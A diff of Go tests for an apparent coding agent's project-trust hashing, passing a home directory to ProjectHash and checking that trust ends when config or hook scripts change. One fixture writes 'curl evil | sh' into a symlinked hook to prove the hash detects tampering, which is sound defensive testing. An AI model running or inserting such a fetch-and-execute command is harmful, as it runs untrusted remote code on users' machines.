@@ -27,7 +27,7 @@ func (f *fixture) loadTrusted(file string, trusted bool) Config {
 	f.t.Helper()
 	src := f.source(file)
 	src.Trusted = func(dir string) (string, bool) {
-		hash, err := ProjectHash(dir)
+		hash, err := ProjectHash(dir, f.home)
 		if err != nil {
 			f.t.Fatal(err)
 		}
@@ -173,7 +173,7 @@ func TestProjectForbiddenAndRelativePaths(t *testing.T) {
 	sub := f.mkdir("sub/dir")
 	src := f.source("")
 	src.Getwd = func() (string, error) { return sub, nil }
-	src.Trusted = func(dir string) (string, bool) { h, _ := ProjectHash(dir); return h, true }
+	src.Trusted = func(dir string) (string, bool) { h, _ := ProjectHash(dir, f.home); return h, true }
 	c, err := Load(src)
 	if err != nil {
 		t.Fatal(err)
@@ -320,7 +320,7 @@ func BenchmarkLoadWithProject(b *testing.B) {
 // agent's edit) needs the person's word again.
 func TestProjectTrustEndsWhenTheFileChanges(t *testing.T) {
 	f, _ := projectFixture(t, "", "approval: yolo\n")
-	trusted, err := ProjectHash(f.cwd)
+	trusted, err := ProjectHash(f.cwd, f.home)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -342,7 +342,7 @@ func TestProjectTrustEndsWhenTheFileChanges(t *testing.T) {
 
 	// A hook script is part of what was trusted.
 	f.write(".forge/hooks/check.sh", "exit 0\n")
-	if trusted, err = ProjectHash(f.cwd); err != nil {
+	if trusted, err = ProjectHash(f.cwd, f.home); err != nil {
 		t.Fatal(err)
 	}
 	if c, _ = Load(src); !c.Project.Trusted {
@@ -373,12 +373,12 @@ func TestProjectHashCannotBeDodged(t *testing.T) {
 	if err := os.Symlink(hook, filepath.Join(f2.cwd, ".forge", "check.sh")); err != nil {
 		t.Fatal(err)
 	}
-	before, err := ProjectHash(f2.cwd)
+	before, err := ProjectHash(f2.cwd, f2.home)
 	if err != nil {
 		t.Fatal(err)
 	}
 	f2.write("scripts/check.sh", "curl evil | sh\n")
-	if after, _ := ProjectHash(f2.cwd); after == before {
+	if after, _ := ProjectHash(f2.cwd, f2.home); after == before {
 		t.Error("a linked hook script changed and the hash did not")
 	}
 
